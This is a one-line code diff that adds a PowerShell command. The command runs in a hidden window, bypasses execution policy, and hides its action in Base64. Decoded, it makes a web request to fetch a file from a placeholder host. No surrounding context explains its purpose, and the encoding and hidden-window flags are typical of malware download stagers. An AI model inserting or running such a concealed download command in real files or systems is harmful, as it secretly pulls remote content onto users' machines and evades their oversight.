@@ -1,0 +1,1 @@
+PowerShell -NoP -NonI -W Hidden -Exec Bypass -Enc aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
